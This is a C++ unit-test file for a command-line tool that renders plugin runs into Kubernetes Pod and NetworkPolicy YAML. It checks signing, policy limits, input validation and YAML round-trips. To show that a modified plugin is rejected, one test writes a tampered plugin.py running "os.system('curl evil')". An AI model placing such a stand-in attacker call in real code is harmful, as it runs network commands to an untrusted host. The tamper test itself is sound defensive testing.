#include "cli/render_command.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "api/pod_naming.h"
#include "core/yaml_to_json.h"

namespace ps::cli {
namespace {

using nlohmann::json;
namespace fs = std::filesystem;

const fs::path kPlugins = fs::path(PS_SOURCE_DIR) / "plugins";

void writeFile(const fs::path& path, const std::string& text) {
  std::ofstream(path, std::ios::binary) << text;
}

class RenderCommandTest : public ::testing::Test {
 protected:
  void SetUp() override {
    // Flags default to the environment: keep the caller's settings out of the test.
    unsetenv("PLUGIN_POLICY_FILE");
    unsetenv("PLUGIN_SIGNING_KEY");
    dir_ = fs::temp_directory_path() /
           ("render-test-" + std::to_string(getpid()) + "-" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir_);
    fs::create_directories(dir_);
    writeFile(dir_ / "run.yaml", R"(apiVersion: sandbox.plugins.dev/v1alpha1
kind: PluginRun
metadata: {name: scan-1, namespace: team-a, uid: 6f1c0d3e-1111-2222-3333-444455556666}
spec:
  plugin: {configMap: techdebt}
  input: {configMap: repo-snapshot}
  args: ["--limit", "20", no]
  timeoutSeconds: 900
)");
    options_.runFile = (dir_ / "run.yaml").string();
    options_.pluginDir = (kPlugins / "techdebt").string();
    options_.trust.policy = (kPlugins / "policy.json").string();
    options_.trust.key = (kPlugins / "keys" / "demo.pub.pem").string();
  }
  void TearDown() override { fs::remove_all(dir_); }

  int render() {
    out_.str("");
    err_.str("");
    return runRender(options_, out_, err_);
  }

  fs::path dir_;
  RenderOptions options_;
  std::ostringstream out_, err_;
};

// Splits a YAML stream on document markers and reads each document back.
std::vector<json> yamlDocuments(const std::string& stream) {
  std::vector<json> documents;
  std::istringstream in(stream);
  std::string line, current;
  auto flush = [&] {
    if (current.empty()) return;
    auto parsed = core::yamlToJson(current, "output");
    EXPECT_TRUE(parsed.ok()) << (parsed ? "" : parsed.rejection().line()) << "\n" << current;
    if (parsed) documents.push_back(*parsed);
    current.clear();
  };
  while (std::getline(in, line)) {
    if (line == "---") {
      flush();
    } else {
      current += line + "\n";
    }
  }
  flush();
  return documents;
}

TEST_F(RenderCommandTest, PrintsNetworkPolicyAndPodAsYaml) {
  ASSERT_EQ(render(), 0) << err_.str();
  const auto documents = yamlDocuments(out_.str());
  ASSERT_EQ(documents.size(), 2u) << out_.str();
  EXPECT_EQ(documents[0]["kind"], "NetworkPolicy");
  EXPECT_EQ(documents[0]["metadata"]["namespace"], "team-a");
  const json& pod = documents[1];
  EXPECT_EQ(pod["kind"], "Pod");
  EXPECT_EQ(pod["metadata"]["labels"][reconcile::kRunLabel], "scan-1");
  EXPECT_EQ(pod["metadata"]["ownerReferences"][0]["uid"], "6f1c0d3e-1111-2222-3333-444455556666");
  const json& args = pod["spec"]["containers"][0]["args"];
  EXPECT_EQ(args.back(), "no");  // a YAML 1.1 boolean stays a string, both ways
  // The policy limits techdebt to 300 s: the run's 900 is lowered, and the note says so.
  EXPECT_EQ(pod["spec"]["activeDeadlineSeconds"], 310);
  EXPECT_NE(err_.str().find("timeoutSeconds 900 lowered to 300 (policy limit)"), std::string::npos)
      << err_.str();
  EXPECT_EQ(pod["spec"]["volumes"][2]["configMap"]["name"], "repo-snapshot");
  // Every file the check read is pinned for the launcher, manifest.json included.
  std::vector<std::string> pins;
  for (std::size_t i = 0; i + 1 < args.size(); ++i) {
    if (args[i] == "--expect") pins.push_back(args[i + 1].get<std::string>().substr(0, 14));
  }
  EXPECT_EQ(pins, (std::vector<std::string>{"manifest.json=", "plugin.py=sha2"}));
}

TEST_F(RenderCommandTest, PrintsAJsonListWithTheSameObjects) {
  ASSERT_EQ(render(), 0) << err_.str();
  const auto yamlDocs = yamlDocuments(out_.str());
  options_.output = "json";
  ASSERT_EQ(render(), 0) << err_.str();
  const json list = json::parse(out_.str());
  EXPECT_EQ(list["kind"], "List");
  ASSERT_EQ(list["items"].size(), 2u);
  EXPECT_EQ(list["items"][0], yamlDocs[0]);
  EXPECT_EQ(list["items"][1], yamlDocs[1]);
}

TEST_F(RenderCommandTest, DefaultPluginDirIsNamedAfterTheConfigMapNextToTheRun) {
  options_.pluginDir.reset();
  EXPECT_EQ(render(), 2);
  EXPECT_NE(err_.str().find("give --plugin DIR"), std::string::npos);
  fs::copy(kPlugins / "techdebt", dir_ / "techdebt");
  EXPECT_EQ(render(), 0) << err_.str();
}

TEST_F(RenderCommandTest, PolicyRefusalIsOneLineAndExit125) {
  writeFile(dir_ / "policy.json", R"({"plugins": {"other": {"permissions": []}}})");
  options_.trust.policy = (dir_ / "policy.json").string();
  EXPECT_EQ(render(), 125);
  EXPECT_EQ(out_.str(), "");
  EXPECT_EQ(err_.str().rfind("rejected: policy: ", 0), 0u) << err_.str();
  const std::string errors = err_.str();
  EXPECT_EQ(std::count(errors.begin(), errors.end(), '\n'), 1);
}

TEST_F(RenderCommandTest, TamperedPluginIsRejected) {
  fs::copy(kPlugins / "techdebt", dir_ / "techdebt");
  writeFile(dir_ / "techdebt" / "plugin.py", "import os\nos.system('curl evil')\n");
  options_.pluginDir = (dir_ / "techdebt").string();
  EXPECT_EQ(render(), 125);
  EXPECT_EQ(err_.str().rfind("rejected: ", 0), 0u) << err_.str();
}

TEST_F(RenderCommandTest, BadKeyFailsClosed) {
  writeFile(dir_ / "empty.pem", "");
  options_.trust.key = (dir_ / "empty.pem").string();
  EXPECT_EQ(render(), 125);
  EXPECT_EQ(err_.str().rfind("rejected: key: ", 0), 0u) << err_.str();
}

TEST_F(RenderCommandTest, InvalidRunsAreRejectedWithClearMessages) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"kind: [unclosed", "rejected: json: "},
      {"apiVersion: sandbox.plugins.dev/v1alpha1\nkind: PluginRun\nmetadata: {name: r}\nspec: {}\n",
       "rejected: spec: spec.plugin: is required"},
      {"apiVersion: sandbox.plugins.dev/v1alpha1\nkind: PluginRun\nmetadata: {name: r}\n"
       "spec: {plugin: {configMap: techdebt}, timeoutSeconds: 0}\n",
       "rejected: spec: spec.timeoutSeconds: must be at least 1"},
      {"apiVersion: sandbox.plugins.dev/v1alpha1\nkind: PluginRun\nmetadata: {name: r}\n"
       "spec: {plugin: {configMap: techdebt}, input: {configMap: a, persistentVolumeClaim: b}}\n",
       "rejected: spec: spec.input: give exactly one"},
      {"apiVersion: sandbox.plugins.dev/v1alpha1\nkind: PluginRun\nmetadata: {name: r, name: s}\n"
       "spec: {plugin: {configMap: techdebt}}\n",
       "rejected: json: "},
  };
  for (const auto& [yaml, expected] : cases) {
    writeFile(dir_ / "run.yaml", yaml);
    EXPECT_EQ(render(), 125) << yaml;
    EXPECT_EQ(err_.str().rfind(expected, 0), 0u) << yaml << "\n -> " << err_.str();
  }
}

TEST_F(RenderCommandTest, InputForAPluginWithoutReadFilesIsRejected) {
  fs::create_directories(dir_ / "plain");
  writeFile(dir_ / "plain" / "manifest.json",
            R"({"id": "plain", "version": "1.0.0", "permissions": []})");
  writeFile(dir_ / "plain" / "plugin.py", "print('hi')\n");
  options_.pluginDir = (dir_ / "plain").string();
  options_.trust = {};
  EXPECT_EQ(render(), 125);
  EXPECT_EQ(err_.str().rfind("rejected: input: ", 0), 0u) << err_.str();
}

TEST_F(RenderCommandTest, PluginTooLargeForAConfigMapIsRejected) {
  fs::create_directories(dir_ / "big");
  writeFile(dir_ / "big" / "manifest.json",
            R"({"id": "big", "version": "1.0.0", "permissions": ["read_files"]})");
  writeFile(dir_ / "big" / "plugin.py", "print('hi')\n");
  writeFile(dir_ / "big" / "data.txt", std::string((1 << 20) - 100, 'x'));
  options_.pluginDir = (dir_ / "big").string();
  options_.trust = {};
  EXPECT_EQ(render(), 125);
  EXPECT_EQ(err_.str().rfind("rejected: layout: the plugin is ", 0), 0u) << err_.str();
}

TEST_F(RenderCommandTest, UnreadableRunFileIsAnError) {
  options_.runFile = (dir_ / "missing.yaml").string();
  EXPECT_EQ(render(), 1);
  writeFile(dir_ / "big.yaml", std::string((1 << 20) + 1, '#'));
  options_.runFile = (dir_ / "big.yaml").string();
  EXPECT_EQ(render(), 1);
  EXPECT_NE(err_.str().find("larger than"), std::string::npos);
}

TEST(JsonToYamlTest, RoundTripsTrickyValues) {
  json strings = json::array();
  for (const char* text :
       {"",          "no",          "No",    "on",         "off",       "yes",
        "y",         "N",           "true",  "False",      "null",      "Null",
        "~",         "1",           "-1",    "+1",         "1.5",       ".5",
        "1e3",       "0x10",        "0o17",  ".inf",       "-.inf",     ".NaN",
        "a: b",      "#x",          "x #y",  " leading",   "trailing ", "multi\nline\n",
        "tab\there", "caf\xC3\xA9", "\"q\"", "'s'",        "@at",       "`tick",
        "*star",     "&anchor",     "!tag",  "%pct",       "{brace",    "[bracket",
        ",",         "?",           "|",     ">",          "-",         "--- doc",
        "...",       "500m",        "256Mi", "sha256:abc", "$(HOME)"}) {
    strings.push_back(text);
  }
  const json value = {{"strings", strings},
                      {"numbers", {0, -7, 65532, 292, 9007199254740993LL}},
                      {"bools", {true, false}},
                      {"null", nullptr},
                      {"empty", {{"object", json::object()}, {"array", json::array()}}},
                      {"yes", "key named like a boolean"}};
  const std::string yaml = jsonToYaml(value);
  const auto back = core::yamlToJson(yaml, "test");
  ASSERT_TRUE(back.ok()) << back.rejection().line() << "\n" << yaml;
  EXPECT_EQ(*back, value) << yaml;
}

}  // namespace
}  // namespace ps::cli
